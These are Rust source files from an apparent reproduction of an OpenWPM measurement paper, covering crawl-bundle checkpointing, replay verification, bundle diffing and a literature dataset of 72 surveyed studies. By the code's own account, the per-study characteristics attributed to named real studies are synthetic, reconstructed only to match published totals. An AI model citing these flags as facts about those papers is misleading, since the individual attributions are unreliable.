            crate::scan::stream_checkpoint_line(rank, line_status, attempts, &line_payload, hwm, delta);
        if let Some(KillPoint::MidCheckpointLine(_, keep)) = action {
            let keep = keep.min(line.len());
            st.ckpt.write_all(&line.as_bytes()[..keep])?;
            st.ckpt.flush()?;
            self.injector.as_ref().unwrap().die();
        }
        writeln!(st.ckpt, "{line}")?;
        st.ckpt.flush()?;
        if let Some(KillPoint::AfterVisit(_)) = action {
            self.injector.as_ref().unwrap().die();
        }
        drop(st);
        obs::add("checkpoint.writes", 1);
        obs::emit(obs::Event::new(0, "checkpoint_write").attr("rank", rank as usize));
        Ok(())
    }

    /// Seal the bundle if every rank was flushed or replayed; a
    /// budget-interrupted stream stays uncommitted so a later resume can
    /// complete it. Returns `(archive stats if committed, records flushed
    /// this run)`.
    pub(crate) fn finish(
        self,
        completion: &CrawlSummary,
        table5: [(u32, u32); 3],
    ) -> io::Result<(Option<ArchiveStats>, u64)> {
        if let Some(e) = self.err.into_inner().unwrap_or_else(|e| e.into_inner()) {
            return Err(e);
        }
        let st = self.state.into_inner().unwrap_or_else(|e| e.into_inner());
        let flushed = st.flushed;
        if st.line_hashes.iter().any(|h| h.is_none()) {
            return Ok((None, flushed));
        }
        let mut digest = String::new();
        for h in &st.line_hashes {
            digest.push_str(&format!("{:016x}", h.unwrap()));
        }
        let info = CommitInfo {
            completed: completion.completed,
            failed: completion.failed,
            interrupted: completion.interrupted,
            table5,
            records_digest: obs::fnv1a(digest.as_bytes()),
            telemetry_digest: obs::registry().snapshot().digest(),
            stats_enabled: obs::stats_enabled(),
        };
        let stats = self.writer.commit(&info.encode())?;
        Ok((
            Some(ArchiveStats {
                sites: stats.entries,
                blobs_written: stats.blobs_written,
                blob_bytes: stats.blob_bytes,
                dedup_hits: stats.dedup_hits,
            }),
            flushed,
        ))
    }
}

/// One bundle entry inside the checkpointed (trusted) prefix.
pub(crate) struct TrustedEntry {
    pub(crate) hash: u64,
    pub(crate) status: String,
    pub(crate) payload: String,
}

/// What a partial bundle yields for resume: entries the checkpoint vouches
/// for, ranks whose entries landed but whose checkpoint line did not
/// (orphans — re-visited), and how many tail lines were discarded.
pub(crate) struct StreamHarvest {
    pub(crate) trusted: HashMap<u32, TrustedEntry>,
    pub(crate) orphan_ranks: BTreeSet<u32>,
    pub(crate) tail_dropped: u64,
}

/// Read a partial bundle back for resume. Everything at or below
/// `max_hwm` (the highest manifest offset any surviving checkpoint line
/// acknowledged) must be intact — corruption there means the storage
/// lied about durability and is a hard error, not a recoverable tear.
/// Entries past the mark are unacknowledged: decodable ones surface as
/// orphans to re-visit, torn ones are counted and dropped.
pub(crate) fn harvest_stream(dir: &Path, cfg: &ScanConfig, max_hwm: u64) -> io::Result<StreamHarvest> {
    let reader = BundleReader::open(dir)?;
    if reader.commit.is_some() {
        return Err(invalid(format!(
            "{}: bundle is already committed — streaming resume refuses to append to a sealed bundle",
            dir.display()
        )));
    }
    if reader.config != stream_config(cfg) {
        return Err(invalid(format!(
            "{}: bundle was recorded under a different configuration — refusing to resume into it",
            dir.display()
        )));
    }
    if max_hwm > reader.manifest_len {
        return Err(invalid(format!(
            "{}: checkpoint high-water mark {max_hwm} is beyond the manifest ({} bytes) — \
             the bundle was truncated after the checkpoint was written",
            dir.display(),
            reader.manifest_len
        )));
    }
    let mut harvest = StreamHarvest {
        trusted: HashMap::new(),
        orphan_ranks: BTreeSet::new(),
        tail_dropped: reader.dropped_lines as u64,
    };
    for (i, entry) in reader.entries.iter().enumerate() {
        let decoded = decode_entry(entry, &reader);
        if reader.entry_ends[i] <= max_hwm {
            let (rank, site) = decoded.ok_or_else(|| {
                invalid(format!(
                    "{}: corrupt site entry inside the checkpointed prefix",
                    dir.display()
                ))
            })?;
            harvest.trusted.insert(
                rank,
                TrustedEntry {
                    hash: obs::fnv1a(entry.as_bytes()),
                    status: site.status,
                    payload: site.payload,
                },
            );
        } else if let Some((rank, _)) = decoded {
            harvest.tail_dropped += 1;
            harvest.orphan_ranks.insert(rank);
        } else {
            harvest.tail_dropped += 1;
        }
    }
    Ok(harvest)
}

// --- replay ----------------------------------------------------------------

/// One site as recorded in a bundle.
#[derive(Debug)]
pub(crate) struct ReplaySite {
    pub(crate) visit: SiteVisit,
    /// Raw result fields, kept verbatim for exact divergence comparison.
    attempts: String,
    status: String,
    payload: String,
    capture: String,
    /// Raw page encoding, for cheap bundle-to-bundle comparison.
    pages_enc: String,
}

impl ReplaySite {
    fn result_fields(&self) -> String {
        format!(
            "{}{F}{}{F}{}{F}{}",
            self.attempts, self.status, self.payload, self.capture
        )
    }

    pub(crate) fn capture(&self) -> Option<StoreCapture> {
        (self.status == "ok").then(|| StoreCapture::decode(&self.capture)).flatten()
    }
}

fn decode_entry(payload: &str, reader: &BundleReader) -> Option<(u32, ReplaySite)> {
    let parts: Vec<&str> = payload.split(F).collect();
    let [rank, domain, cats, flaky, attempts, status, result, capture, pages_enc] =
        parts.as_slice()
    else {
        return None;
    };
    let rank: u32 = rank.parse().ok()?;
    let categories: Vec<Category> = split_list(cats)
        .into_iter()
        .map(Category::from_name)
        .collect::<Option<_>>()?;
    let _: u32 = attempts.parse().ok()?;
    match *status {
        "ok" => {
            decode_site_record(result)?;
            StoreCapture::decode(capture)?;
        }
        "failed" => {
            FailureReason::parse(result)?;
        }
        "interrupted" => {}
        _ => return None,
    }
    let pages: Vec<VisitSpec> = if pages_enc.is_empty() {
        Vec::new()
    } else {
        pages_enc
            .split(PAGE)
            .map(|p| decode_page(p, reader))
            .collect::<Option<_>>()?
    };
    Some((
        rank,
        ReplaySite {
            visit: SiteVisit {
                rank,
                domain: domain.to_string(),
                categories,
                flaky: *flaky == "1",
                pages,
            },
            attempts: attempts.to_string(),
            status: status.to_string(),
            payload: result.to_string(),
            capture: capture.to_string(),
            pages_enc: pages_enc.to_string(),
        },
    ))
}

/// A committed bundle opened for replay or diffing: the recorded scan
/// configuration, every site's served pages and recorded outcome, and the
/// sealed [`CommitInfo`].
#[derive(Debug)]
pub struct ReplayBundle {
    cfg: ScanConfig,
    pub(crate) sites: Vec<ReplaySite>,
    pub commit: CommitInfo,
}

impl ReplayBundle {
    /// Open and fully validate the bundle at `dir`. Fails with a clear
    /// error on a missing/torn/uncommitted bundle, a format-version
    /// mismatch, a missing site, a missing blob, or a records-digest
    /// mismatch — a replay must never silently run from a damaged corpus.
    pub fn open(dir: impl AsRef<Path>) -> io::Result<ReplayBundle> {
        let dir = dir.as_ref();
        let reader = BundleReader::open(dir)?;
        let commit = reader
            .commit
            .as_deref()
            .ok_or_else(|| {
                invalid(format!(
                    "{}: bundle has no commit line (recording crawl was killed?) — re-record it",
                    dir.display()
                ))
            })
            .and_then(|c| {
                CommitInfo::decode(c)
                    .ok_or_else(|| invalid(format!("{}: corrupt commit line", dir.display())))
            })?;
        if reader.dropped_lines > 0 || reader.torn_blob_tail {
            return Err(invalid(format!(
                "{}: committed bundle has {} dropped manifest lines (torn blob tail: {}) — \
                 the files were damaged after commit",
                dir.display(),
                reader.dropped_lines,
                reader.torn_blob_tail
            )));
        }
        let cfg = decode_config(&reader.config, 4)
            .ok_or_else(|| invalid(format!("{}: corrupt config payload", dir.display())))?;
        let n = cfg.n_sites as usize;
        let mut sites: Vec<Option<ReplaySite>> = (0..n).map(|_| None).collect();
        let mut digest_parts: Vec<Option<String>> = vec![None; n];
        for entry in &reader.entries {
            let (rank, site) = decode_entry(entry, &reader)
                .ok_or_else(|| invalid(format!("{}: corrupt site entry", dir.display())))?;
            if rank as usize >= n {
                return Err(invalid(format!(
                    "{}: site entry rank {rank} out of range for n_sites={n}",
                    dir.display()
                )));
            }
            digest_parts[rank as usize] = Some(format!("{:016x}", obs::fnv1a(entry.as_bytes())));
            sites[rank as usize] = Some(site);
        }
        let mut digest = String::new();
        let mut resolved = Vec::with_capacity(n);
        for (rank, site) in sites.into_iter().enumerate() {
            resolved.push(site.ok_or_else(|| {
                invalid(format!("{}: bundle is missing site {rank}", dir.display()))
            })?);
            digest.push_str(digest_parts[rank].as_ref().unwrap());
        }
        if obs::fnv1a(digest.as_bytes()) != commit.records_digest {
            return Err(invalid(format!(
                "{}: records digest mismatch — entries do not match the commit line",
                dir.display()
            )));
        }
        Ok(ReplayBundle { cfg, sites: resolved, commit })
    }

    /// The recorded scan configuration, with `workers` set by the caller
    /// (results are worker-count independent; parallelism is not part of
    /// the recorded experiment).
    pub fn scan_config(&self, workers: usize) -> ScanConfig {
        ScanConfig { workers, ..self.cfg }
    }

    pub fn n_sites(&self) -> u32 {
        self.cfg.n_sites
    }

    pub(crate) fn site(&self, rank: u32) -> &ReplaySite {
        &self.sites[rank as usize]
    }
}

/// Compares replayed outcomes against recorded ones (the `on_complete`
/// hook of a replay run).
pub(crate) struct Verifier {
    bundle: Arc<ReplayBundle>,
    sites: AtomicU64,
    divergences: AtomicU64,
}

impl Verifier {
    pub(crate) fn new(bundle: Arc<ReplayBundle>) -> Verifier {
        Verifier { bundle, sites: AtomicU64::new(0), divergences: AtomicU64::new(0) }
    }

    pub(crate) fn check(
        &self,
        rank: usize,
        outcome: &VisitOutcome<SiteScanRecord>,
        attempts: u32,
    ) {
        self.sites.fetch_add(1, Ordering::Relaxed);
        obs::add("archive.replay.sites", 1);
        let live = result_fields(outcome, attempts, take_capture());
        let recorded = self.bundle.site(rank as u32).result_fields();
        if live != recorded {
            self.divergences.fetch_add(1, Ordering::Relaxed);
            obs::add("archive.replay.divergences", 1);
            obs::emit(obs::Event::new(0, "archive_replay_divergence").attr("rank", rank));
        }
    }

    pub(crate) fn stats(&self) -> ReplayStats {
        ReplayStats {
            sites: self.sites.load(Ordering::Relaxed),
            divergences: self.divergences.load(Ordering::Relaxed),
        }
    }
}

// --- diffing ---------------------------------------------------------------

/// One site whose records differ between two bundles.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SiteDelta {
    pub rank: u32,
    pub domain: String,
    /// Human-readable field-level differences.
    pub changes: Vec<String>,
}

/// The comparison of two bundles (paper Sec. 6.3: WPM vs WPM_hide runs
/// over the same recorded corpus).
#[derive(Clone, Debug, Default)]
pub struct BundleDiff {
    pub a_commit: CommitInfo,
    pub b_commit: CommitInfo,
    /// The recorded scan configurations differ (expected when diffing an
    /// ablation; suspicious when diffing two same-seed runs).
    pub config_differs: bool,
    pub deltas: Vec<SiteDelta>,
}

impl BundleDiff {
    /// True when the bundles agree site-for-site.
    pub fn is_clean(&self) -> bool {
        self.deltas.is_empty()
    }

    /// Total records in each bundle's capture fingerprints `(a, b)`.
    pub fn record_totals(a: &ReplayBundle, b: &ReplayBundle) -> (u64, u64) {
        let sum = |bundle: &ReplayBundle| {
            bundle.sites.iter().filter_map(|s| s.capture()).map(|c| c.total_records()).sum()
        };
        (sum(a), sum(b))
    }
}

/// Compare two opened bundles site-by-site.
pub fn diff_bundles(a: &ReplayBundle, b: &ReplayBundle) -> BundleDiff {
    let mut diff = BundleDiff {
        a_commit: a.commit,
        b_commit: b.commit,
        config_differs: encode_config(&a.cfg) != encode_config(&b.cfg),
        deltas: Vec::new(),
    };
    let shared = a.sites.len().min(b.sites.len());
    for rank in 0..shared {
        let (sa, sb) = (&a.sites[rank], &b.sites[rank]);
        let mut changes = Vec::new();
        if sa.status != sb.status {
            changes.push(format!("status: {} -> {}", sa.status, sb.status));
        }
        if sa.attempts != sb.attempts {
            changes.push(format!("attempts: {} -> {}", sa.attempts, sb.attempts));
        }
        match (sa.capture(), sb.capture()) {
            (Some(ca), Some(cb)) if ca != cb => {
                for (name, va, vb) in [
                    ("js_calls", ca.js_calls, cb.js_calls),
                    ("http_requests", ca.http_requests, cb.http_requests),
                    ("http_responses", ca.http_responses, cb.http_responses),
                    ("saved_scripts", ca.saved_scripts, cb.saved_scripts),
                    ("cookies", ca.cookies, cb.cookies),
                    ("malformed_events", ca.malformed_events, cb.malformed_events),
                ] {
                    if va != vb {
                        changes.push(format!("records.{name}: {va} -> {vb}"));
                    }
                }
                if ca.digest != cb.digest {
                    changes.push(format!(
                        "records.digest: {:016x} -> {:016x}",
                        ca.digest, cb.digest
                    ));
                }
            }
            _ => {}
        }
        if sa.status == sb.status && sa.payload != sb.payload {
            changes.push("site record fields differ".to_string());
        }
        if sa.pages_enc != sb.pages_enc {
            changes.push("served pages differ".to_string());
        }
        if !changes.is_empty() {
            diff.deltas.push(SiteDelta {
                rank: rank as u32,
                domain: sa.visit.domain.clone(),
                changes,
            });
        }
    }
    for rank in shared..a.sites.len() {
        diff.deltas.push(SiteDelta {
            rank: rank as u32,
            domain: a.sites[rank].visit.domain.clone(),
            changes: vec!["only in first bundle".to_string()],
        });
    }
    for rank in shared..b.sites.len() {
        diff.deltas.push(SiteDelta {
            rank: rank as u32,
            domain: b.sites[rank].visit.domain.clone(),
            changes: vec!["only in second bundle".to_string()],
        });
    }
    diff
}
