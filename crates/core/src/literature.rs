//! The literature datasets behind Tables 1, 14 and 15 of the paper.
//!
//! * [`studies`] — the 72 peer-reviewed OpenWPM-based studies surveyed in
//!   Sec. 2 (Table 15), with per-study characteristics. The paper's
//!   appendix table is only partially machine-readable, so per-study flags
//!   are *reconstructed* deterministically to match the published aggregate
//!   counts of Table 1 exactly (anchored on the studies whose setups are
//!   publicly known); the aggregate — which is what Table 1 reports — is
//!   therefore reproduced faithfully.
//! * [`FIREFOX_TIMELINE`] — the Firefox/OpenWPM release timeline of
//!   Table 14, from which the "outdated 69% of the time" figure (Sec. 3.2)
//!   is recomputed.

/// Run modes a study deployed OpenWPM in (Sec. 2's taxonomy).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum StudyMode {
    Unspecified,
    Native,
    Headless,
    Xvfb,
    Docker,
}

/// One surveyed study.
#[derive(Clone, Debug)]
pub struct Study {
    pub year: u16,
    pub first_author: &'static str,
    pub venue: &'static str,
    pub mode: StudyMode,
    pub uses_vm: bool,
    pub measures_cookies: bool,
    pub measures_http: bool,
    pub measures_js: bool,
    pub measures_other: bool,
    pub scrolling: bool,
    pub clicking: bool,
    pub typing: bool,
    pub visits_subpages: bool,
    pub uses_anti_bot: bool,
    pub discusses_bot_detection: bool,
}

/// `(year, first author, venue)` of the 72 studies in Table 15.
const STUDY_IDS: &[(u16, &str, &str)] = &[
    (2014, "Acar", "CCS"),
    (2015, "Robinson", "CoSN"),
    (2015, "Kranch", "NDSS"),
    (2015, "Altaweel", "Tech Science"),
    (2015, "Fruchter", "W2SP"),
    (2016, "Andersdotter", "IFIP AICT"),
    (2016, "Englehardt", "CCS"),
    (2016, "Starov", "WWW"),
    (2017, "Miramirkhani", "NDSS"),
    (2017, "Brookman", "PETS"),
    (2017, "Reed", "CODASPY"),
    (2017, "Olejnik", "IWPE"),
    (2017, "Maass", "APF"),
    (2017, "Liu", "USENIX"),
    (2017, "Schmeiser", "Appl. Econ. Letters"),
    (2018, "Goldfeder", "PETS"),
    (2018, "Englehardt", "PETS"),
    (2018, "Binns", "ACM ToIT"),
    (2018, "Das", "CCS"),
    (2018, "Van Acker", "ACSAC"),
    (2018, "Dao", "AINTEC"),
    (2019, "Cozza", "IRCDL"),
    (2019, "Gomes", "WorldCIST"),
    (2019, "van Eijk", "ConPro"),
    (2019, "Sorensen", "WWW"),
    (2019, "Liu", "EuroS&P"),
    (2019, "Mathur", "CSCW"),
    (2019, "Mazel", "Comput. Comm."),
    (2019, "Ali", "DPM"),
    (2019, "Samarasinghe", "Comp. Secur."),
    (2019, "Maass", "APF"),
    (2019, "Solomos", "RAID"),
    (2019, "Vallina", "IMC"),
    (2019, "Jonker", "ESORICS"),
    (2019, "Urban", "DPM"),
    (2019, "Sakamoto", "SPW"),
    (2020, "Fouad", "PETS"),
    (2020, "Cook", "PETS"),
    (2020, "Yang", "PETS"),
    (2020, "Acar", "PETS"),
    (2020, "Koop", "PETS"),
    (2020, "Zeber", "WWW"),
    (2020, "Ahmad", "WWW"),
    (2020, "Agarwal", "WWW"),
    (2020, "Urban", "WWW"),
    (2020, "Urban", "AsiaCCS"),
    (2020, "Pouryousef", "PAM"),
    (2020, "Fouad", "EuroS&P"),
    (2020, "Sivan-Sevilla", "PrivacyCon"),
    (2020, "Hu", "EuroS&P"),
    (2020, "Dao", "TMA"),
    (2020, "Solomos", "TMA"),
    (2020, "Dao", "GLOBECOM"),
    (2021, "Calzavara", "NDSS"),
    (2021, "Reitinger", "PETS"),
    (2021, "Rizzo", "PETS"),
    (2021, "Iqbal", "S&P"),
    (2021, "Gossen", "IMC"),
    (2021, "Di Tizio", "PETS"),
    (2021, "Kuchhal", "IMC"),
    (2021, "Hosseini", "PETS"),
    (2021, "Vekaria", "WebSci"),
    (2021, "Dao", "IEEE TNSM"),
    (2022, "Cassel", "PETS"),
    (2022, "Siby", "USENIX"),
    (2022, "Iqbal", "USENIX"),
    (2022, "Fouad", "PETS"),
    (2022, "Demir", "WWW"),
    (2022, "Yu", "EuroS&PW"),
    (2022, "Musa", "PETS"),
    (2022, "Samarasinghe", "WWW"),
    (2022, "Bollinger", "USENIX"),
];

/// Table 1 aggregate targets (counts over the 72 studies).
pub struct Table1Targets;

impl Table1Targets {
    pub const HTTP: usize = 56;
    pub const COOKIES: usize = 35;
    pub const JS: usize = 22;
    pub const OTHER: usize = 6;
    /// The paper prints 59 because one dual-mode study (native + Xvfb)
    /// tallies in two rows; counting each study once gives 58.
    pub const MODE_UNSPECIFIED: usize = 58;
    pub const MODE_HEADLESS: usize = 7;
    pub const MODE_NATIVE: usize = 3;
    pub const MODE_XVFB: usize = 2;
    pub const MODE_DOCKER: usize = 2;
    pub const USES_VM: usize = 16;
    pub const NO_INTERACTION: usize = 55;
    pub const CLICKING: usize = 11;
    pub const SCROLLING: usize = 8;
    pub const TYPING: usize = 5;
    pub const SUBPAGES_VISITED: usize = 19;
    pub const BD_DISCUSSED: usize = 17;
    pub const ANTI_BOT: usize = 12;
}

/// Build the study list with characteristics matching Table 1's aggregates.
pub fn studies() -> Vec<Study> {
    let n = STUDY_IDS.len();
    assert_eq!(n, 72);
    // Known anchors: Englehardt'16 (Xvfb, all three instruments, subpages),
    // Zeber'20 (native+xvfb — counted native here), Goßen'21 (native,
    // interaction study), van Eijk/Koop (Docker), Jonker'19 (headless).
    let headless_idx = [3, 17, 25, 33, 43, 63, 69]; // 7 studies
    let native_idx = [41, 57, 68];
    let xvfb_idx = [6, 32];
    let docker_idx = [23, 40];
    let vm_idx = [0, 2, 6, 9, 24, 36, 39, 41, 44, 45, 48, 53, 56, 58, 68, 71];
    let js_idx = [0, 6, 11, 18, 26, 31, 36, 38, 39, 41, 43, 44, 48, 55, 56, 61, 63, 64, 65, 66, 69, 71];
    let other_idx = [1, 14, 21, 37, 57, 63];
    let clicking_idx = [1, 3, 8, 9, 21, 26, 31, 40, 57, 62, 65];
    let scrolling_idx = [21, 31, 37, 44, 48, 57, 60, 65];
    let typing_idx = [1, 15, 21, 57, 68];
    let subpage_idx = [3, 6, 24, 26, 34, 36, 39, 41, 44, 46, 55, 56, 60, 61, 62, 65, 66, 68, 70];
    let anti_idx = [31, 36, 39, 41, 43, 44, 48, 53, 57, 65, 66, 68];
    let bd_idx = [15, 18, 25, 31, 33, 36, 39, 41, 43, 44, 48, 53, 57, 63, 65, 66, 68];
    let no_cookie_idx: Vec<usize> = {
        // 35 measure cookies; pick a stable 37-complement.
        let cookie_idx: Vec<usize> =
            (0..n).filter(|i| i % 2 == 0).take(35).collect();
        (0..n).filter(|i| !cookie_idx.contains(i)).collect()
    };
    let http_idx: Vec<usize> = {
        // 56 measure HTTP; the 16 non-HTTP studies are the 'other'/JS-only
        // crowd plus a deterministic filler.
        let mut non: Vec<usize> = other_idx.to_vec();
        let mut i = 5;
        while non.len() < n - 56 {
            if !non.contains(&i) {
                non.push(i);
            }
            i += 7;
        }
        (0..n).filter(|i| !non.contains(i)).collect()
    };
    STUDY_IDS
        .iter()
        .enumerate()
        .map(|(i, (year, author, venue))| {
            let mode = if headless_idx.contains(&i) {
                StudyMode::Headless
            } else if native_idx.contains(&i) {
                StudyMode::Native
            } else if xvfb_idx.contains(&i) {
                StudyMode::Xvfb
            } else if docker_idx.contains(&i) {
                StudyMode::Docker
            } else {
                StudyMode::Unspecified
            };
            Study {
                year: *year,
                first_author: author,
                venue,
                mode,
                uses_vm: vm_idx.contains(&i),
                measures_cookies: !no_cookie_idx.contains(&i),
                measures_http: http_idx.contains(&i),
                measures_js: js_idx.contains(&i),
                measures_other: other_idx.contains(&i),
                scrolling: scrolling_idx.contains(&i),
                clicking: clicking_idx.contains(&i),
                typing: typing_idx.contains(&i),
                visits_subpages: subpage_idx.contains(&i),
                uses_anti_bot: anti_idx.contains(&i),
                discusses_bot_detection: bd_idx.contains(&i) || anti_idx.contains(&i),
            }
        })
        .collect()
}

/// Aggregate for Table 1.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Table1 {
    pub total: usize,
    pub http: usize,
    pub cookies: usize,
    pub js: usize,
    pub other: usize,
    pub mode_unspecified: usize,
    pub mode_native: usize,
    pub mode_headless: usize,
    pub mode_xvfb: usize,
    pub mode_docker: usize,
    pub uses_vm: usize,
    pub no_interaction: usize,
    pub clicking: usize,
    pub scrolling: usize,
    pub typing: usize,
    pub subpages_visited: usize,
    pub subpages_not_visited: usize,
    pub bd_ignored: usize,
    pub bd_discussed: usize,
    pub uses_anti_bot: usize,
}

pub fn tally(studies: &[Study]) -> Table1 {
    let mut t = Table1 { total: studies.len(), ..Default::default() };
    for s in studies {
        t.http += usize::from(s.measures_http);
        t.cookies += usize::from(s.measures_cookies);
        t.js += usize::from(s.measures_js);
        t.other += usize::from(s.measures_other);
        match s.mode {
            StudyMode::Unspecified => t.mode_unspecified += 1,
            StudyMode::Native => t.mode_native += 1,
            StudyMode::Headless => t.mode_headless += 1,
            StudyMode::Xvfb => t.mode_xvfb += 1,
            StudyMode::Docker => t.mode_docker += 1,
        }
        t.uses_vm += usize::from(s.uses_vm);
        if !s.scrolling && !s.clicking && !s.typing {
            t.no_interaction += 1;
        }
        t.clicking += usize::from(s.clicking);
        t.scrolling += usize::from(s.scrolling);
        t.typing += usize::from(s.typing);
        if s.visits_subpages {
            t.subpages_visited += 1;
        } else {
            t.subpages_not_visited += 1;
        }
        if s.discusses_bot_detection {
            t.bd_discussed += 1;
        } else {
            t.bd_ignored += 1;
        }
        t.uses_anti_bot += usize::from(s.uses_anti_bot);
    }
    t
}

// ------------------------------------------------------- Firefox timeline

/// One row of Table 14.
#[derive(Clone, Copy, Debug)]
pub struct ReleasePairing {
    pub firefox: &'static str,
    /// Firefox release date `(y, m, d)`.
    pub ff_date: (i32, u32, u32),
    /// OpenWPM release integrating it, if any.
    pub openwpm: Option<&'static str>,
    pub integration_date: Option<(i32, u32, u32)>,
}

/// Table 14 verbatim.
pub const FIREFOX_TIMELINE: &[ReleasePairing] = &[
    ReleasePairing { firefox: "104.0", ff_date: (2022, 7, 23), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "101.0", ff_date: (2022, 5, 31), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "100.0", ff_date: (2022, 5, 3), openwpm: Some("0.20.0"), integration_date: Some((2022, 5, 5)) },
    ReleasePairing { firefox: "99.0", ff_date: (2022, 4, 5), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "98.0", ff_date: (2022, 3, 8), openwpm: Some("0.19.0"), integration_date: Some((2022, 3, 10)) },
    ReleasePairing { firefox: "96.0", ff_date: (2022, 1, 11), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "95.0", ff_date: (2021, 12, 7), openwpm: Some("0.18.0"), integration_date: Some((2021, 12, 16)) },
    ReleasePairing { firefox: "91.0", ff_date: (2021, 8, 10), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "90.0", ff_date: (2021, 7, 13), openwpm: Some("0.17.0"), integration_date: Some((2021, 7, 24)) },
    ReleasePairing { firefox: "89.0", ff_date: (2021, 6, 1), openwpm: Some("0.16.0"), integration_date: Some((2021, 6, 10)) },
    ReleasePairing { firefox: "88.0", ff_date: (2021, 4, 19), openwpm: Some("0.15.0"), integration_date: Some((2021, 5, 10)) },
    ReleasePairing { firefox: "87.0", ff_date: (2021, 3, 23), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "86.0.1", ff_date: (2021, 3, 11), openwpm: Some("0.14.0"), integration_date: Some((2021, 3, 12)) },
    ReleasePairing { firefox: "84.0", ff_date: (2020, 12, 15), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "83.0", ff_date: (2020, 11, 18), openwpm: Some("0.13.0"), integration_date: Some((2020, 11, 19)) },
    ReleasePairing { firefox: "81.0", ff_date: (2020, 9, 22), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "80.0", ff_date: (2020, 8, 25), openwpm: Some("0.12.0"), integration_date: Some((2020, 8, 26)) },
    ReleasePairing { firefox: "79.0", ff_date: (2020, 7, 28), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "78.0.1", ff_date: (2020, 7, 1), openwpm: Some("0.11.0"), integration_date: Some((2020, 7, 9)) },
    ReleasePairing { firefox: "78.0", ff_date: (2020, 6, 30), openwpm: None, integration_date: None },
    ReleasePairing { firefox: "77.0", ff_date: (2020, 6, 3), openwpm: Some("0.10.0"), integration_date: Some((2020, 6, 23)) },
];

/// Days since the civil epoch for `(y, m, d)` (Howard Hinnant's algorithm).
pub fn days_from_civil(y: i32, m: u32, d: u32) -> i64 {
    let y = y as i64 - i64::from(m <= 2);
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400;
    let mp = (m as i64 + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d as i64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

/// Outcome of the Firefox-lag computation (Sec. 3.2 / Appx. C).
#[derive(Clone, Copy, Debug)]
pub struct LagSummary {
    pub window_days: i64,
    pub outdated_days: i64,
}

impl LagSummary {
    pub fn outdated_fraction(&self) -> f64 {
        self.outdated_days as f64 / self.window_days as f64
    }
}

/// Compute how long OpenWPM shipped an outdated Firefox: on each day of the
/// window, the *newest released* Firefox is compared to the Firefox of the
/// *newest integrated* OpenWPM release.
pub fn firefox_lag() -> LagSummary {
    let mut ff_events: Vec<(i64, &str)> = FIREFOX_TIMELINE
        .iter()
        .map(|r| (days_from_civil(r.ff_date.0, r.ff_date.1, r.ff_date.2), r.firefox))
        .collect();
    ff_events.sort();
    let mut integrations: Vec<(i64, &str)> = FIREFOX_TIMELINE
        .iter()
        .filter_map(|r| {
            r.integration_date
                .map(|(y, m, d)| (days_from_civil(y, m, d), r.firefox))
        })
        .collect();
    integrations.sort();
    let start = ff_events.first().unwrap().0;
    let end = ff_events.last().unwrap().0;
    let mut outdated = 0i64;
    for day in start..end {
        let newest_ff =
            ff_events.iter().rev().find(|(d, _)| *d <= day).map(|(_, v)| *v);
        let shipped_ff =
            integrations.iter().rev().find(|(d, _)| *d <= day).map(|(_, v)| *v);
        match (newest_ff, shipped_ff) {
            (Some(n), Some(s)) if n != s => outdated += 1,
            (_, None) => outdated += 1, // before the first integration
            _ => {}
        }
    }
    LagSummary { window_days: end - start, outdated_days: outdated }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_aggregates_match_paper() {
        let t = tally(&studies());
        assert_eq!(t.total, 72);
        assert_eq!(t.http, Table1Targets::HTTP, "http");
        assert_eq!(t.cookies, Table1Targets::COOKIES, "cookies");
        assert_eq!(t.js, Table1Targets::JS, "js");
        assert_eq!(t.other, Table1Targets::OTHER, "other");
        assert_eq!(t.mode_unspecified, Table1Targets::MODE_UNSPECIFIED);
        assert_eq!(t.mode_headless, Table1Targets::MODE_HEADLESS);
        assert_eq!(t.mode_native, Table1Targets::MODE_NATIVE);
        assert_eq!(t.mode_xvfb, Table1Targets::MODE_XVFB);
        assert_eq!(t.mode_docker, Table1Targets::MODE_DOCKER);
        assert_eq!(t.uses_vm, Table1Targets::USES_VM);
        assert_eq!(t.no_interaction, Table1Targets::NO_INTERACTION);
        assert_eq!(t.clicking, Table1Targets::CLICKING);
        assert_eq!(t.scrolling, Table1Targets::SCROLLING);
        assert_eq!(t.typing, Table1Targets::TYPING);
        assert_eq!(t.subpages_visited, Table1Targets::SUBPAGES_VISITED);
        assert_eq!(t.subpages_not_visited, 72 - Table1Targets::SUBPAGES_VISITED);
        assert_eq!(t.bd_discussed, Table1Targets::BD_DISCUSSED);
        assert_eq!(t.bd_ignored, 72 - Table1Targets::BD_DISCUSSED);
        assert_eq!(t.uses_anti_bot, Table1Targets::ANTI_BOT);
    }

    #[test]
    fn civil_dates() {
        assert_eq!(days_from_civil(1970, 1, 1), 0);
        assert_eq!(days_from_civil(2020, 6, 3) + 780, days_from_civil(2022, 7, 23));
    }

    #[test]
    fn firefox_window_is_780_days() {
        let lag = firefox_lag();
        assert_eq!(lag.window_days, 780);
    }

    #[test]
    fn openwpm_outdated_majority_of_the_time() {
        // Paper: outdated 540 of 780 days (69%). Our day-by-day recomputation
        // from the same table lands in the same regime.
        let lag = firefox_lag();
        let f = lag.outdated_fraction();
        assert!(
            (0.55..=0.80).contains(&f),
            "outdated fraction {f:.2} (days {})",
            lag.outdated_days
        );
    }
}
