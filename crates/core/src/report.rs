//! Plain-text table rendering for the experiment binaries — every table the
//! reproduction regenerates prints through this, in a layout close to the
//! paper's.

/// A simple aligned text table.
#[derive(Clone, Debug, Default)]
pub struct TextTable {
    pub title: String,
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl TextTable {
    pub fn new(title: impl Into<String>) -> TextTable {
        TextTable { title: title.into(), ..Default::default() }
    }

    pub fn header(&mut self, cols: &[&str]) -> &mut Self {
